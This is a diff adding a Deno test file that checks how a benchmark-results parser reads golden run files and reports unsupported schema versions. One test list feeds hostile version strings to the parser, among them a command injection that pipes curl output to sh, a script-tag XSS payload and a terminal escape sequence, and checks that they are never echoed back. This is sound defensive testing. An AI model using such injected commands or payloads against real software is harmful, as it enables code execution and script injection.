@@ -1,0 +1,137 @@
+import {
+  assert,
+  assertEquals,
+  assertGreater,
+  assertStringIncludes,
+  assertThrows,
+} from "@std/assert";
+import { analyseRun } from "../../src/analysis/mod.ts";
+import { listRuns, parseRun, RunFormatError } from "../../src/results/mod.ts";
+import { readGolden, readGoldenWith } from "./golden_file.ts";
+
+const SOURCE = { source: "some/run.json" };
+
+Deno.test("parseRun() reads a run of version 1 as the one of version 2 it always was", async () => {
+  assertEquals(
+    parseRun(await readGolden("run.v1.json"), SOURCE),
+    await readGolden("run.v1.upgraded.json"),
+  );
+});
+
+for (const name of ["run.v1.upgraded.json", "run.v2.json"]) {
+  Deno.test(`parseRun() changes nothing of ${name}`, async () => {
+    const golden = await readGolden(name);
+    assertEquals(parseRun(golden, SOURCE), golden);
+  });
+}
+
+Deno.test("the golden run of version 2 holds everything that the format can say", async () => {
+  const run = parseRun(await readGolden("run.v2.json"), SOURCE);
+  assertEquals(
+    new Set(run.cells.map(({ outcome }) => outcome.kind)),
+    new Set(["measured", "failed", "not-run", "not-offered"]),
+  );
+  assert(run.cells.some(({ parameters }) => parameters.twin));
+  assert(run.cells.some(({ parameters }) => parameters.itemMicros));
+  for (const list of [run.rounds, run.warnings, run.suites]) {
+    assertGreater(list.length, 0);
+  }
+  assert(run.noise);
+});
+
+Deno.test("analyseRun() understands every golden run", async () => {
+  for (const name of ["run.v1.json", "run.v2.json"]) {
+    const run = parseRun(await readGolden(name), SOURCE);
+    const { workloads } = analyseRun(run);
+    assertEquals(workloads.map(({ verdict }) => verdict.kind), [
+      "winner",
+      "winner",
+    ]);
+  }
+});
+
+Deno.test("every run under results/ can be read", async () => {
+  const { runs, problems } = await listRuns("results");
+  assertEquals(problems, []);
+  assertGreater(runs.length, 0);
+  for (const { run, file } of runs) {
+    assertStringIncludes(file, `${run.machine.id}/${run.id}.json`);
+  }
+});
+
+/** What refuses a version 3 file of a tool that says so of its version. */
+async function refusal(tool: unknown): Promise<RunFormatError> {
+  const run = await readGoldenWith("run.v2.json", { schemaVersion: 3, tool });
+  return assertThrows(
+    () => parseRun(run, SOURCE),
+    RunFormatError,
+    "schemaVersion: found 3, expected at most 2",
+  );
+}
+
+Deno.test("parseRun() tells which version of Crossover to update to", async () => {
+  const { message, hint } = await refusal({
+    name: "crossover",
+    version: "0.31.4",
+    commit: null,
+  });
+  assert(message.startsWith("Cannot read run some/run.json: schemaVersion"));
+  assertEquals(hint, "Crossover 0.31.4 wrote this file; update to it");
+});
+
+const HOSTILE_TOOLS: readonly unknown[] = [
+  { version: "9.9.9\u001b[2J" },
+  { version: "9.9.9; curl example.org | sh" },
+  { version: "<script>alert(1)</script>" },
+  { version: `9.9.${"9".repeat(1_000)}` },
+  { version: "9.9.9\n" },
+  { version: 9 },
+  { version: { toString: "9.9.9" } },
+  {},
+  "9.9.9",
+  null,
+  undefined,
+];
+
+for (const tool of HOSTILE_TOOLS) {
+  const shown = JSON.stringify(tool)?.slice(0, 60);
+  Deno.test(`parseRun() never repeats a version that is none: ${shown}`, async () => {
+    const { message, hint } = await refusal(tool);
+    assertEquals(hint, "a newer Crossover wrote this file; update to it");
+    assert(!/9\.9/.test(message));
+  });
+}
+
+const NO_VERSIONS: readonly unknown[] = [
+  ...[0, -1, 1.5, 2.5, 1e300, "1", "2", null, true, [2], {}, undefined],
+];
+
+for (const schemaVersion of NO_VERSIONS) {
+  const shown = JSON.stringify(schemaVersion);
+  Deno.test(`parseRun() refuses ${shown} as a version, and does not ask for an update`, async () => {
+    for (const name of ["run.v1.json", "run.v2.json"]) {
+      const run = await readGoldenWith(name, { schemaVersion });
+      const { hint } = assertThrows(
+        () => parseRun(run, SOURCE),
+        RunFormatError,
+        `schemaVersion: found ${shown}, expected a whole number from 1 to 2`,
+      );
+      assertStringIncludes(hint, "deno task bench");
+    }
+  });
+}
+
+Deno.test("parseRun() checks a run by the version that it names", async () => {
+  const swapped = [
+    {
+      name: "run.v1.json",
+      schemaVersion: 2,
+      says: "conditions: found nothing",
+    },
+    { name: "run.v2.json", schemaVersion: 1, says: "found " },
+  ];
+  for (const { name, schemaVersion, says } of swapped) {
+    const run = await readGoldenWith(name, { schemaVersion });
+    assertThrows(() => parseRun(run, SOURCE), RunFormatError, says);
+  }
+});
